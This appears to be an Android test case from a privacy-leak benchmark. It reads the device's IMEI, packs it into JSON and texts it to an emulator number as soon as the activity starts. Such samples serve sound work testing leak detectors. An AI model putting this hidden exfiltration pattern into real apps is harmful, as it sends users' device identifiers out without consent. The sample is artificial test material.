package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** In an object of JSON. */
public class Json extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        org.json.JSONObject j = new org.json.JSONObject();
        try { j.put("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()); } catch (org.json.JSONException e) { return; }
        SmsManager.getDefault().sendTextMessage("5556", null, j.toString(), null, null);
    }
}
